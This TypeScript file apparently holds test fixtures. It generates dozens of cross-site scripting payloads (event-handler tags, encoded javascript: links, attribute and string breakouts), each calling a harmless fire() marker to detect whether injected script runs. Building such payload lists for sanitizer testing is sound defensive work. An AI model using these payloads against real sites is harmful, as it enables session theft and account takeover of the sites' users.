// What runs by itself where a page is careless, by where it would have to stand.

/** What every payload that runs calls. */
export const RUN = 'fire()'

/** Elements that run something by themselves, each with the event that does it. */
const starters: readonly (readonly [tag: string, attributes: string, event: string])[] = [
  ['img', 'src=/none', 'onerror'],
  ['img', 'src="data:,"', 'onerror'],
  ['img', 'src="data:image/gif;base64,R0lGODlhAQABAIAAAAAAAP///yH5BAEAAAAALAAAAAABAAEAAAIBRAA7"', 'onload'],
  ['image', 'src=/none', 'onerror'],
  ['video', 'src=/none', 'onerror'],
  ['audio', 'src=/none', 'onerror'],
  ['input', 'type=image src=/none', 'onerror'],
  ['input', 'autofocus', 'onfocus'],
  ['select', 'autofocus', 'onfocus'],
  ['textarea', 'autofocus', 'onfocus'],
  ['button', 'autofocus', 'onfocus'],
  ['a', 'href=# autofocus', 'onfocus'],
  ['p', 'tabindex=0 autofocus', 'onfocus'],
  ['details', 'open', 'ontoggle'],
  ['svg><svg', '', 'onload'],
  ['style', '', 'onload'],
  ['iframe', '', 'onload'],
  ['link', 'rel=stylesheet href=/none', 'onerror'],
  ['object', 'data=/none', 'onerror'],
  ['b', 'class=moves', 'onanimationstart'],
]

/** Ways of writing a tag that careless filters overlook. */
const spellings: readonly ((tag: string, attributes: string, event: string) => string)[] = [
  (tag, attributes, event) => `<${tag} ${attributes} ${event}=${RUN}>`,
  (tag, attributes, event) => `"><${tag} ${attributes} ${event}="${RUN}">`,
  (tag, attributes, event) => `<${tag.toUpperCase()}\t${attributes}\n${event.toUpperCase()}='${RUN}' x>`,
  (tag, attributes, event) => `</p></title></textarea><${tag} ${attributes} ${event}=&#102;ire&lpar;&rpar;>`,
]

const entities = 'javascript:'.replace(/./g, sign => `&#${String(sign.charCodeAt(0))};`)

export const markup = [
  ...starters.flatMap(([tag, attributes, event]) => spellings.map(spell => spell(tag, attributes, event))),
  `<svg><animate onbegin=${RUN} attributeName=x dur=1s>`,
  `<svg><set onbegin=${RUN} attributeName=x dur=1s>`,
  `<svg><style></style><image href=/none onerror=${RUN}>`,
  `<math><mtext></mtext></math><img src=/none onerror=${RUN}>`,
  `<iframe srcdoc="<script>parent.${RUN}</script>"></iframe>`,
  `<iframe srcdoc="&lt;svg onload=parent.${RUN}&gt;"></iframe>`,
  `<iframe src="javascript:parent.${RUN}"></iframe>`,
  `<iframe src="${entities}parent.${RUN}"></iframe>`,
  `<iframe src=" &Tab;java&NewLine;script:parent.${RUN}"></iframe>`,
  `<embed src="javascript:parent.${RUN}"><img src=/none onerror=${RUN}>`,
  `<a><b><img src=/none onerror="\`\`,${RUN}">`,
  `<!--><img src=/none onerror=${RUN}>-->`,
  `<![CDATA[><img src=/none onerror=${RUN}>]]>`,
  `<noscript><p title="</noscript><img src=/none onerror=${RUN}>">`,
  `<table><tr><td background=x><img src=/none onerror=${RUN}>`,
  `<x-evil><template></template><img src=/none onerror=${RUN}></x-evil>`,
  `<img src=/none onerror=${RUN} alt="${'a'.repeat(90)}">`,
]

export const attribute = [
  `" autofocus tabindex=0 onfocus="${RUN}`,
  `"><svg><svg onload="${RUN}`,
  `"><img src=/none onerror="${RUN}`,
  `"/><iframe onload="${RUN}`,
  `"\nautofocus\ntabindex=0\nonfocus\n=\n"${RUN}`,
  `&quot;"><details open ontoggle="${RUN}`,
  `"x><style onload="${RUN}`,
]

/** What a link may be made to do; a blank or a control character in front, or inside, is skipped by a browser. */
export const address = [
  `javascript:${RUN}`,
  `JaVaScRiPt:${RUN}`,
  ` \tjavascript:${RUN}`,
  `java\tscript:${RUN}`,
  `java\nscript:${RUN}`,
  `java\rscript:${RUN}`,
  `\u0001javascript:${RUN}`,
  `javascript\t:${RUN}`,
  `javascript://https://nordhost.example/%0a${RUN}`,
  `javascript:/*https://nordhost.example*/${RUN}`,
  `javascript:void(${RUN})`,
  `javascript:'<b>x</b>',${RUN}`,
  `javascript:%66ire()`,
  `javascript:eval('${RUN}')`,
]

/** Text that is pasted into a script between quotation marks. */
export const script = [
  `';${RUN};'`,
  `'-${RUN}-'`,
  `'+${RUN}+'`,
  `'/${RUN}/'`,
  `'\n;${RUN}//`,
  `',${RUN},'`,
  `'||${RUN}||'`,
]

export const template = [`\${${RUN}}`, `\`+${RUN}+\``, `\${(() => ${RUN})()}`, `a\${${RUN}}b`, `\${[${RUN}]}`]
